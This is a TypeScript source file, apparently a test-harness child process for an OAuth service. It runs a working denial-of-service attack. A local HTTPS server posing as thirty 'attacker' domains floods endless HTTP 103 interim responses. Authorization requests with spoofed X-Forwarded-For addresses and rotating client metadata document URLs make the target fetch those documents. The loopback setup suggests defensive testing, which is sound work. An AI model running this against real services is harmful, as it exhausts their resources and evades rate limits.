import { get } from "node:http"
import type { Socket } from "node:net"
import process from "node:process"
import { setTimeout as pause } from "node:timers/promises"
import { certificateFor, httpsServer } from "../evidence/LoopbackServers.ts"

/*
 * A process that attacks a service by client metadata documents: clients of ten networks ask for authorization under ids whose documents
 * answer with interim answers without an end. Tells its parent the port and the certificate of its documents; attacks the URL that it is
 * sent, and ends with its parent.
 */

const NETWORKS = 10
const LOOPS_EACH = 2

/** More domains than the limit of each lets through in a minute. */
const DOMAINS: ReadonlyArray<string> = Array.from({ length: 30 }, (_, index) => `docs.attacker-${index}.com`)

/** Between two requests of a client, in milliseconds, so that it is the documents that cost and not the requests. */
const PAUSE_MS = 100

/** No attack goes on for longer, in milliseconds. */
const LONGEST_MS = 30 * 60_000

const INTERIM = "HTTP/1.1 103 Early Hints\r\nlink: </a>; rel=preload\r\n\r\n".repeat(2_000)

/** Interim answers without an end, as fast as the other side reads them. */
const flood = (socket: Socket): void => {
  if (socket.destroyed) return
  if (socket.write(INTERIM)) setImmediate(flood, socket)
  else socket.once("drain", () => flood(socket))
}

const certificate = certificateFor(DOMAINS[0] ?? "", false, DOMAINS)
const documents = await httpsServer(({ socket }) => flood(socket), certificate)

/** Waits for the answer, whatever it is. */
const ask = (url: string, network: number, document: string): Promise<void> =>
  new Promise((resolve) => {
    const sent = get(
      `${url}/oauth/authorize?client_id=${encodeURIComponent(document)}`,
      { agent: false, headers: { "x-forwarded-for": `198.51.${network}.7` } },
      (response) => {
        response.resume()
        response.on("close", resolve)
      }
    )
    sent.on("error", () => resolve())
  })

const attack = async (url: string, network: number, loop: number): Promise<void> => {
  const until = performance.now() + LONGEST_MS
  for (let turn = 0; performance.now() < until; turn += 1) {
    const domain = DOMAINS[(network * LOOPS_EACH + loop + turn) % DOMAINS.length] ?? ""
    await ask(url, network, `https://${domain}/${network}-${loop}-${turn}.json`)
    await pause(PAUSE_MS)
  }
}

process.on("disconnect", () => process.exit(0))
process.on("message", (url) => {
  for (let network = 0; network < NETWORKS; network += 1) {
    for (let loop = 0; loop < LOOPS_EACH; loop += 1) void attack(String(url), network, loop)
  }
})
process.send?.({ port: documents.port, authority: certificate.cert, domains: DOMAINS })
